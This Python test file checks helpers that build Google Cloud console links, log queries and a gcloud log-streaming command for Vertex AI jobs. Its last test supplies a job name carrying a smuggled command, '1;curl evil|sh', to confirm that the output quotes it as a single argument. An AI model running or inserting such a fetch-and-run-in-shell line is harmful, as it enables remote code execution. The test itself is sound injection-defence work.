"""Test the links and the command of a job."""

from __future__ import annotations

import shlex
from urllib.parse import parse_qs, unquote, urlsplit

from hypothesis import given
from hypothesis import strategies as st

from spot.core import fields
from spot.google import console_urls

JOB = "projects/123/locations/us-east4/customJobs/456"


def test_the_console_shows_the_job_in_its_region_and_project() -> None:
    assert console_urls.console(JOB) == (
        "https://console.cloud.google.com/vertex-ai/locations/us-east4/training/456?project=123"
    )


def test_the_log_is_asked_for_by_the_job_and_nothing_else() -> None:
    parts = urlsplit(console_urls.logs(JOB))
    assert unquote(parts.path) == ('/logs/query;query=resource.type="ml_job"\nresource.labels.job_id="456"')
    assert parse_qs(parts.query) == {"project": ["123"]}


def test_gcloud_follows_the_log_of_the_job() -> None:
    """Names of jobs have the number of the project, which this command refuses."""
    line = console_urls.follow(JOB, "acme-ml")
    assert line == "gcloud ai custom-jobs stream-logs 456 --region=us-east4 --project=acme-ml"


def test_what_lies_in_a_bucket_has_a_page_and_a_local_path_has_none() -> None:
    page = "https://console.cloud.google.com/storage/browser/bucket/our%20prefix/models/run-1"
    assert console_urls.storage("gs://bucket/our prefix/models/run-1") == page
    assert console_urls.storage("models") is None


@given(st.from_regex(fields.JOB, fullmatch=True))
def test_the_printed_command_has_no_arguments_from_a_record(job: str) -> None:
    words = shlex.split(console_urls.follow(job, "acme-ml"))
    assert words[:4] == ["gcloud", "ai", "custom-jobs", "stream-logs"]
    assert [word.partition("=")[0] for word in words[5:]] == ["--region", "--project"]


def test_what_a_shell_would_run_is_quoted() -> None:
    """The ledger holds no such name; nothing printed relies on that."""
    line = console_urls.follow("projects/p/locations/r/customJobs/1;curl evil|sh", "p")
    assert shlex.split(line)[4] == "1;curl evil|sh"
